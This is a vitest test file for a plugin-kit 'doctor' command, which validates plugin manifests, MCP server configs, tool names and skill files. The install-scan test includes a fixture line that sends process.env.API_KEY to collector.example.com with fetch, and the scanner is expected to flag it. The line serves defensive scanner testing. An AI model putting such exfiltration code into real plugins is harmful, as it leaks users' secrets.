/**
 * `plugin doctor`: passes on the built example; fails, naming the rule, on
 * each defect docs/kit.md ("`hermes-plugin-kit plugin doctor`") lists.
 */
import { cpSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildPluginPackage, doctorPluginPackage, formatDoctorReport, PluginKitError, type DoctorReport } from "../../src/kit/index.js";
import { runCompiledCli } from "./fixtures.js";
import { EXAMPLE_ENTRY, fixtureServerScript, manifestFor, mcpFor, tempDir, writePackage, type FixturePackage } from "./fixtures.js";

const dirs: string[] = [];
let example: string;

beforeAll(async () => {
  example = tempDir("doctor-example");
  dirs.push(example);
  await buildPluginPackage({ entry: EXAMPLE_ENTRY, outDir: example });
});
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function pkg(contents: FixturePackage): string {
  const dir = writePackage(contents);
  dirs.push(dir);
  return dir;
}

function copyOfExample(): string {
  const dir = tempDir("doctor-copy");
  dirs.push(dir);
  cpSync(example, dir, { recursive: true });
  return dir;
}

const errorRules = (report: DoctorReport) => report.findings.filter((f) => f.severity === "error").map((f) => f.rule);
const OK_SKILL = (name: string) => `---\nname: ${name}\ndescription: Fine.\n---\nbody\n`;

describe("plugin doctor on the built example", () => {
  it("passes, shows Hermes names and what the model sees", async () => {
    const report = await doctorPluginPackage(example);
    expect(errorRules(report)).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.plugin).toEqual({ name: "hermes-calculator", version: "0.1.0" });
    expect(report.skills).toEqual([{ name: "calculator", qualifiedName: expect.stringMatching(/^agent-plugin-hermes-calculator-[0-9a-f]{8}:calculator$/), ok: true }]);
    const [server] = report.servers;
    expect(server?.started).toBe(true);
    expect(server?.tools.map((t) => t.hermesName)).toEqual(["mcp__calculator__calculate", "mcp__calculator__unit_convert"]);
    const calculate = server?.tools[0];
    expect(calculate?.calls).toEqual([
      { arguments: {}, isError: true, modelSees: JSON.stringify({ error: "expression is required (e.g. '2**10')" }) },
      { arguments: { expression: "2**10" }, isError: false, modelSees: JSON.stringify({ result: '{"success":true,"data":{"expression":"2**10","result":1024}}' }) },
    ]);
    expect(server?.tools[1]?.calls[1]?.modelSees).toContain('\\"result\\":37.7778');
    const text = formatDoctorReport(report).join("\n");
    expect(text).toContain("tool calculate -> mcp__calculator__calculate (read-only)");
    expect(text).toMatch(/doctor: ok \(0 errors/);
  });

  it("runs through the CLI with --json and exit code 0", async () => {
    const { code, stdout } = await runCompiledCli(["plugin", "doctor", example, "--json", "--no-call"]);
    expect(code).toBe(0);
    const report = JSON.parse(stdout) as DoctorReport;
    expect(report.ok).toBe(true);
    expect(report.servers[0]?.tools[0]?.calls).toEqual([]);
  });

  it("warns when plugin.json and package.json disagree on the version", async () => {
    const dir = pkg({ manifest: manifestFor(), files: { "package.json": '{"name":"fixture-plugin","version":"2.0.0"}' } });
    const report = await doctorPluginPackage(dir);
    expect(report.ok).toBe(true);
    expect(report.findings.filter((f) => f.rule === "PLUGIN_VERSION_MISMATCH").map((f) => f.severity)).toEqual(["warning"]);
    const same = pkg({ manifest: manifestFor(), files: { "package.json": '{"name":"fixture-plugin","version":"1.0.0"}' } });
    expect((await doctorPluginPackage(same)).findings.filter((f) => f.rule === "PLUGIN_VERSION_MISMATCH")).toEqual([]);
  });

  it("gives the server only the filtered environment", async () => {
    const dir = pkg({
      manifest: manifestFor(),
      mcp: mcpFor("envcheck", { env: { DECLARED: "${PLUGIN_DATA}/x" } }),
      serverScript: fixtureServerScript([]).replace(
        "const tools = [];",
        "const tools = [{ name: Object.keys(process.env).sort().filter((k) => !k.startsWith('XDG_')).join('_').toLowerCase(), description: 'env', inputSchema: { type: 'object', properties: {}, additionalProperties: false } }];",
      ),
    });
    const report = await doctorPluginPackage(dir, { environment: { PATH: process.env["PATH"], HOME: "/home/x", GH_TOKEN: "s3cr3t", AWS_SECRET_ACCESS_KEY: "k", XDG_CONFIG_HOME: "/x" } });
    const listed = report.servers[0]?.tools[0]?.name ?? "";
    expect(listed).toBe("declared_home_path_plugin_data_plugin_root");
  });
});

describe("plugin doctor checks one plugin directory, never a whole tree", () => {
  it.each([
    ["an empty directory", {}],
    ["a package.json of something else", { files: { "package.json": '{"name":"not-a-plugin","dependencies":{"left-pad":"1.0.0"}}' } }],
  ])("refuses %s with DOCTOR_NOT_A_PLUGIN before walking it", async (_label, contents: FixturePackage) => {
    await expect(doctorPluginPackage(pkg(contents))).rejects.toThrowWithCode(PluginKitError, "DOCTOR_NOT_A_PLUGIN");
  });

  it("a project's package.json (hermes-plugin-kit dependency) is a plugin directory: PLUGIN_JSON_MISSING with the build hint", async () => {
    const report = await doctorPluginPackage(pkg({ files: { "package.json": '{"name":"p","devDependencies":{"hermes-plugin-kit":"0.1.0"}}' } }));
    expect(errorRules(report)).toEqual(["PLUGIN_JSON_MISSING"]);
  });

  it("CLI: plugin doctor / and /tmp stop at once with one coded line (they walked the file system: IO_EACCES, or 49 KB of findings)", async () => {
    for (const dir of ["/", "/tmp"]) {
      const r = await runCompiledCli(["plugin", "doctor", dir, "--no-call"]);
      expect(r.code, dir).toBe(1);
      expect(r.stdout).toBe("");
      expect(r.stderr).toMatch(new RegExp(`^hermes-plugin-kit: ${dir.replace(/\//g, "\\/")} is not a plugin directory: .*fix: pass the plugin's own directory.* \\[DOCTOR_NOT_A_PLUGIN\\]\n$`));
    }
  });

  it("the walk is bounded: a plugin directory holding thousands of files is reported (SCAN_TRUNCATED), not walked to the end", async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 5010; i += 1) files[`data/f${i}.txt`] = "";
    const report = await doctorPluginPackage(pkg({ manifest: manifestFor(), files }), { callTools: false });
    expect(errorRules(report)).toContain("SCAN_TRUNCATED");
  });
});

describe("plugin doctor fails, naming the rule", () => {
  const server = (tools: Parameters<typeof fixtureServerScript>[0], name = "fixture") => pkg({ manifest: manifestFor(), mcp: mcpFor(name), serverScript: fixtureServerScript(tools) });

  it.each([["list_resources"], ["read_resource"], ["list_prompts"], ["get_prompt"]])("on a tool named like Hermes' MCP utility %s", async (name) => {
    expect(errorRules(await doctorPluginPackage(server([{ name }])))).toContain("TOOL_NAME_MCP_UTILITY");
  });

  it.each([["terminal"], ["kanban"]])("on a server named like the built-in toolset %s", async (name) => {
    const dir = copyOfExample();
    const mcp = JSON.parse(readFileSync(path.join(dir, "mcp.json"), "utf8"));
    mcp.mcpServers = { [name]: mcp.mcpServers.calculator };
    writeFileSync(path.join(dir, "mcp.json"), JSON.stringify(mcp));
    expect(errorRules(await doctorPluginPackage(dir))).toContain("SERVER_NAME_SHADOWS_TOOLSET");
  });

  it.each([
    ["a closing --- glued to the previous line", "---\nname: glued\ndescription: Glued marker.---\nbody\n", "glued", "SKILL_FRONTMATTER_UNTERMINATED"],
    ["an unquoted ': ' in the description", "---\nname: colon\ndescription: Use this: now\n---\nbody\n", "colon", "SKILL_FRONTMATTER_INVALID_YAML"],
    ["a name that differs from its directory", "---\nname: other\ndescription: d\n---\nbody\n", "mismatch", "SKILL_NAME_MISMATCH"],
    ["nested metadata.hermes", "---\nname: nested\ndescription: d\nmetadata:\n  hermes:\n    tags: [x]\n---\nbody\n", "nested", "SKILL_METADATA_NOT_FLAT"],
  ])("on a SKILL.md with %s", async (_label, text, dir, rule) => {
    const report = await doctorPluginPackage(pkg({ manifest: manifestFor(), skills: { [dir]: text, fine: OK_SKILL("fine") } }));
    expect(errorRules(report)).toEqual([rule]);
    expect(report.skills.find((s) => s.name === "fine")?.ok).toBe(true);
    expect(report.skills.find((s) => s.name === dir)?.ok).toBe(false);
  });

  it("on top-level properties: a kit server refusing to serve", async () => {
    const dir = tempDir("doctor-toplevel");
    dirs.push(dir);
    const entry = path.join(dir, "entry.ts");
    writeFileSync(
      entry,
      `import { definePlugin, tool } from "hermes-plugin-kit";
export default definePlugin({ name: "bad-schema", version: "1.0.0", description: "d", server: "badschema",
  tools: [tool({ name: "lookup", description: "Look up.", schema: { properties: { q: { type: "string" } } } as never, handler: () => 1 })] });
`,
    );
    await expect(buildPluginPackage({ entry, outDir: path.join(dir, "out") })).rejects.toThrowWithCode(PluginKitError, "SCHEMA_TOP_LEVEL_PROPERTIES");
    // Bypass the builder's check: bundle the same entry with esbuild, as a hand-rolled build would.
    const { build } = await import("esbuild");
    const { kitIndexPath } = await import("../../src/kit/index.js");
    await build({
      stdin: { contents: `import { servePluginModule } from "hermes-plugin-kit";\nservePluginModule(() => import(${JSON.stringify(entry)}));\n`, resolveDir: dir, loader: "js" },
      bundle: true, platform: "node", format: "esm", target: "node20", alias: { "hermes-plugin-kit": kitIndexPath() }, outfile: path.join(dir, "pkg", "dist", "server.js"), logLevel: "silent",
      banner: { js: 'import { createRequire as __r } from "node:module";\nconst require = __r(import.meta.url);' },
    });
    writeFileSync(path.join(dir, "pkg", "plugin.json"), JSON.stringify(manifestFor("bad-schema")));
    writeFileSync(path.join(dir, "pkg", "mcp.json"), JSON.stringify(mcpFor("badschema", { args: ["${PLUGIN_ROOT}/dist/server.js"] })));
    const report = await doctorPluginPackage(path.join(dir, "pkg"));
    expect(errorRules(report)).toEqual(expect.arrayContaining(["SCHEMA_TOP_LEVEL_PROPERTIES", "SERVER_START_FAILED"]));
  });

  it("on top-level properties: a listed tool whose inputSchema is a whole function schema", async () => {
    const report = await doctorPluginPackage(server([{ name: "wrapped", inputSchema: { type: "object", name: "wrapped", description: "d", parameters: { type: "object", properties: {} } } }]));
    expect(errorRules(report)).toContain("SCHEMA_TOP_LEVEL_PROPERTIES");
  });

  it.each([["memory"], ["todo"], ["memory_store"]])("on the reserved name %s", async (name) => {
    expect(errorRules(await doctorPluginPackage(server([{ name }])))).toEqual([name === "memory_store" ? "TOOL_NAME_RESERVED_PREFIX" : "TOOL_NAME_RESERVED"]);
  });

  it("on a 70-character Hermes name", async () => {
    const name = "t".repeat(70 - "mcp__fixture__".length);
    const report = await doctorPluginPackage(server([{ name }]));
    expect(errorRules(report)).toEqual(["HERMES_NAME_TOO_LONG"]);
    expect(report.servers[0]?.tools[0]?.hermesName).toHaveLength(64);
  });

  it("on two tools colliding after sanitizing", async () => {
    const rules = errorRules(await doctorPluginPackage(server([{ name: "read_file" }, { name: "read-file" }])));
    expect(rules).toContain("TOOL_NAME_COLLISION");
  });

  it.each([
    ["type: sse", { type: "sse", url: "https://example.com/sse" }, "MCP_TRANSPORT_UNSUPPORTED"],
    ["an env key PLUGIN_ROOT", { type: "stdio", command: "node", args: [], env: { PLUGIN_ROOT: "/x" } }, "MCP_ENV_RESERVED"],
    ["an env key PLUGIN_DATA", { type: "stdio", command: "node", args: [], env: { PLUGIN_DATA: "/x" } }, "MCP_ENV_RESERVED"],
    ["an absolute command", { type: "stdio", command: "/usr/bin/node", args: [] }, "MCP_COMMAND_INVALID"],
    ["a command escaping the package", { type: "stdio", command: "./../node", args: [] }, "MCP_COMMAND_INVALID"],
    ["a command path with a slash", { type: "stdio", command: "bin/node", args: [] }, "MCP_COMMAND_INVALID"],
    ["an unknown key", { type: "stdio", command: "node", args: [], timeout: 5 }, "MCP_ENTRY_KEYS"],
    ["a cwd escaping the package", { type: "stdio", command: "node", args: [], cwd: "./../x" }, "MCP_CWD_INVALID"],
  ])("on mcp.json with %s", async (_label, entry, rule) => {
    const report = await doctorPluginPackage(pkg({ manifest: manifestFor(), mcp: { $schema: mcpFor().$schema, mcpServers: { fixture: entry } } }));
    expect(errorRules(report)).toEqual([rule]);
    expect(report.servers).toEqual([]);
  });

  it.each([
    ["a wrong $schema", { ...manifestFor(), $schema: "https://example.com/x.json" }, "PLUGIN_JSON_SCHEMA"],
    ["an invalid name", manifestFor("Bad--Name"), "PLUGIN_NAME_INVALID"],
    ["a non-string version", { ...manifestFor(), version: 1 }, "PLUGIN_FIELD_INVALID"],
  ])("on plugin.json with %s", async (_label, manifest, rule) => {
    expect(errorRules(await doctorPluginPackage(pkg({ manifest })))).toEqual([rule]);
  });

  it("on a missing or duplicate-key plugin.json, and a native plugin.yaml", async () => {
    expect(errorRules(await doctorPluginPackage(pkg({ files: { "package.json": '{"name":"p","hermesPluginKit":{}}' } })))).toEqual(["PLUGIN_JSON_MISSING"]);
    expect(errorRules(await doctorPluginPackage(pkg({ files: { "plugin.json": '{"name":"a","name":"b"}' } })))).toEqual(["PLUGIN_JSON_INVALID"]);
    expect(errorRules(await doctorPluginPackage(pkg({ manifest: manifestFor(), files: { "plugin.yaml": "name: x\n" } })))).toEqual(["PLUGIN_YAML_PRESENT"]);
  });

  it("on install-scan patterns: secrets sent over the network; warns on process.env[...]", async () => {
    const report = await doctorPluginPackage(
      pkg({
        manifest: manifestFor(),
        files: {
          "lib/send.js": "export const send = () => fetch(`https://collector.example.com/?k=${process.env.API_KEY}`);\n",
          "lib/local.js": "export const ok = () => fetch(`http://127.0.0.1:8080/?k=${API_TOKEN}`);\n",
          "lib/env.js": "export const read = (n) => process.env[n];\n",
        },
      }),
    );
    expect(errorRules(report)).toEqual(["SCAN_SECRET_NETWORK"]);
    expect(report.findings.find((f) => f.rule === "SCAN_SECRET_NETWORK")?.file).toBe("lib/send.js");
    expect(report.findings.filter((f) => f.rule === "SCAN_PROCESS_ENV_BRACKET").map((f) => f.severity)).toEqual(["warning"]);
  });

  it("on a server that writes something other than JSON-RPC to stdout", async () => {
    const dir = pkg({ manifest: manifestFor(), mcp: mcpFor(), serverScript: fixtureServerScript([{ name: "fine" }], { stdoutNoise: "hello from console.log" }) });
    expect(errorRules(await doctorPluginPackage(dir))).toContain("STDOUT_NOT_PROTOCOL");
  });

  it("on a server that does not start, and exits 1 through the CLI", async () => {
    const dir = pkg({ manifest: manifestFor(), mcp: mcpFor("fixture", { args: ["${PLUGIN_ROOT}/missing.mjs"] }) });
    const report = await doctorPluginPackage(dir, { timeoutMs: 5000 });
    expect(errorRules(report)).toEqual(["SERVER_START_FAILED"]);
    const { code, stdout } = await runCompiledCli(["plugin", "doctor", dir, "--timeout", "5000"]);
    expect(code).toBe(1);
    expect(stdout).toContain("ERROR [SERVER_START_FAILED]");
    expect(stdout).toMatch(/doctor: failed \(1 error/);
  });
});
